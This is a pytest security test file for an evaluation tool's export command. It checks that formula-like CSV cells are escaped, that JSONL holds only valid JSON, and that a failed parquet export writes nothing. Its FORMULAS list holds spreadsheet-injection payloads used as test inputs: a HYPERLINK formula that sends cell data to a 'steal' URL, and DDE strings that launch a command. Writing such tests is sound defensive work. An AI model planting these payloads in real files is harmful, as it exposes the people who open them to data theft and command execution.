"""Exports are safe to open: CSV text cells that a spreadsheet would evaluate (``=``, ``+``, ``-``, ``@``, tab,
carriage return first) are written as text; JSONL export is valid JSON (NaN and infinities as null with a
``nonfinite`` flag); a parquet export of a value it cannot type stops before writing anything, with one line.
Nothing is written outside the run folder."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from sgieval.cli import app
from sgieval.core import GENERIC, Item, Response, RunConfig, RunStore, Score
from sgieval.tests.security.run_folders import one_error_line, snapshot

runner = CliRunner()

FORMULAS = [
    '=HYPERLINK("http://127.0.0.1:9/steal?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(autouse=True)
def _env(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv("SGIEVAL_CACHE_DIR", str(tmp_path / "cache"))


def make_run(tmp_path: Path, texts: list[str]) -> Path:
    d = tmp_path / "runs" / "r1"
    store = RunStore(d)
    store.write_config(RunConfig(run_id="r1"))
    store.append("items", [Item(id=f"t/{i}", benchmark="t", task=GENERIC, prompt=f"p{i}") for i in range(len(texts))])
    store.append(
        "responses",
        [
            Response(item_id=f"t/{i}", model="m", text=t, latency_s=0.5, tokens={"input": 3, "output": 1})
            for i, t in enumerate(texts)
        ],
    )
    store.append(
        "scores",
        [
            Score(item_id=f"t/{i}", model="m", metric="em", value=-1.0 if i == 0 else 0.0, rationale=t)
            for i, t in enumerate(texts)
        ],
    )
    store.close()
    return d


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_csv_cells_a_spreadsheet_would_evaluate_are_written_as_text(tmp_path):
    run = make_run(tmp_path, [*FORMULAS, "plain text", "a = b"])
    before = snapshot(tmp_path, skip=run)
    res = runner.invoke(app, ["export", str(run), "-f", "csv"])
    assert res.exit_code == 0, res.output
    rows = read_csv(run / "export" / "responses.csv")
    # a leading carriage return is shown as \x0d (control characters are escaped in CSV cells): text as well
    expected = ["'" + t for t in FORMULAS[:-1]] + ["\\x0d=1+1", "plain text", "a = b"]
    assert [r["text"] for r in rows] == expected
    assert {r["latency_s"] for r in rows} == {"0.5"} and {r["tokens_input"] for r in rows} == {
        "3"
    }  # numbers stay numbers
    scores = read_csv(run / "export" / "scores.csv")
    assert [r["rationale"] for r in scores][:2] == ["'" + FORMULAS[0], "'" + FORMULAS[1]]
    assert scores[0]["value"] == "-1.0"  # a negative number is a number, not a formula
    assert snapshot(tmp_path, skip=run) == before


def test_formula_text_in_prompts_and_json_cells_is_written_as_text(tmp_path):
    # variant: the item side (prompt, reference as JSON text) and a JSON cell that begins with "-"
    d = tmp_path / "runs" / "r2"
    store = RunStore(d)
    store.write_config(RunConfig(run_id="r2"))
    store.append("items", [Item(id="t/0", benchmark="t", task=GENERIC, prompt="=1+2", reference=-3, discipline="@x")])
    store.close()
    res = runner.invoke(app, ["export", str(d), "-f", "csv"])
    assert res.exit_code == 0, res.output
    (row,) = read_csv(d / "export" / "items.csv")
    assert (row["prompt"], row["reference"], row["discipline"]) == ("'=1+2", "'-3", "'@x")


def test_jsonl_export_is_valid_json_with_non_finite_numbers_flagged(tmp_path):
    # the finding: JSONL export wrote bare NaN (a record file holding NaN / Infinity, which pydantic reads)
    run = make_run(tmp_path, ["a", "b"])
    lines = (run / "scores.jsonl").read_text().split("\n")
    lines[0] = lines[0].replace('"value":-1.0', '"value":Infinity')
    (run / "scores.jsonl").write_text("\n".join(lines))
    r_lines = (run / "responses.jsonl").read_text().split("\n")
    r_lines[1] = r_lines[1].replace('"latency_s":0.5', '"latency_s":NaN')
    (run / "responses.jsonl").write_text("\n".join(r_lines))
    before = snapshot(tmp_path, skip=run)
    res = runner.invoke(app, ["export", str(run), "-f", "jsonl"])
    assert res.exit_code == 0, res.output

    def strict(text: str):
        return json.loads(text, parse_constant=lambda c: pytest.fail(f"bare {c} in the export"))

    scores = [strict(x) for x in (run / "export" / "scores.jsonl").read_text().splitlines()]
    assert (scores[0]["value"], scores[0]["nonfinite"]) == (None, {"value": "Infinity"})
    assert "nonfinite" not in scores[1] and scores[1]["value"] == 0.0
    responses = [strict(x) for x in (run / "export" / "responses.jsonl").read_text().splitlines()]
    assert (responses[1]["latency_s"], responses[1]["nonfinite"]) == (None, {"latency_s": "NaN"})
    assert snapshot(tmp_path, skip=run) == before


def test_jsonl_export_of_a_nested_non_finite_number_is_valid_json(tmp_path):
    # variant: NaN inside a nested value (details, metadata) is null inside its JSON text, in every format
    d = tmp_path / "runs" / "r3"
    store = RunStore(d)
    store.write_config(RunConfig(run_id="r3"))
    store.append("items", [Item(id="t/0", benchmark="t", task=GENERIC, prompt="p", metadata={"w": float("-inf")})])
    store.close()
    lines = (d / "items.jsonl").read_text()
    assert '"w":null' in lines  # pydantic already writes null: plant the literal a file may hold
    (d / "items.jsonl").write_text(lines.replace('"w":null', '"w":-Infinity'))
    res = runner.invoke(app, ["export", str(d), "-f", "jsonl"])
    assert res.exit_code == 0, res.output
    (row,) = [
        json.loads(x, parse_constant=lambda c: pytest.fail(c))
        for x in (d / "export" / "items.jsonl").read_text().splitlines()
    ]
    assert row["metadata"] == '{"w": null}'


def test_parquet_export_of_a_value_it_cannot_type_writes_nothing(tmp_path):
    # the finding: parquet export stopped half-written on a huge integer
    run = make_run(tmp_path, ["a", "b"])
    r_lines = (run / "responses.jsonl").read_text().split("\n")
    r_lines[1] = r_lines[1].replace('"input":3', '"input":' + "9" * 30)
    (run / "responses.jsonl").write_text("\n".join(r_lines))
    before = snapshot(tmp_path, skip=run)
    err = one_error_line(runner.invoke(app, ["export", str(run), "-f", "parquet"]))
    assert err == (
        "error: --format parquet: responses row 2 (item 't/1'), column 'tokens_input': "
        f"{'9' * 30} is not a int64 value; nothing was written. Fix: export as jsonl or csv (they hold any "
        "number), or correct that record"
    )
    assert not (run / "export").exists() or not any((run / "export").iterdir())
    assert snapshot(tmp_path, skip=run) == before
    # the same records export as JSONL and CSV, the number whole
    res = runner.invoke(app, ["export", str(run), "-f", "jsonl"])
    assert res.exit_code == 0, res.output
    rows = [json.loads(x) for x in (run / "export" / "responses.jsonl").read_text().splitlines()]
    assert rows[1]["tokens_input"] == int("9" * 30)


def test_parquet_export_to_an_outside_folder_with_a_bad_value_leaves_it_empty(tmp_path):
    # variant: --dest outside the run: nothing half-written there either
    run = make_run(tmp_path, ["a"])
    r_lines = (run / "responses.jsonl").read_text().split("\n")
    r_lines[0] = r_lines[0].replace('"output":1', '"output":-' + "9" * 25)
    (run / "responses.jsonl").write_text("\n".join(r_lines))
    dest = tmp_path / "tables"
    err = one_error_line(runner.invoke(app, ["export", str(run), "-f", "parquet", "--dest", str(dest)]))
    assert "responses row 1 (item 't/0'), column 'tokens_output'" in err and "nothing was written" in err
    assert not dest.exists() or not any(dest.iterdir())
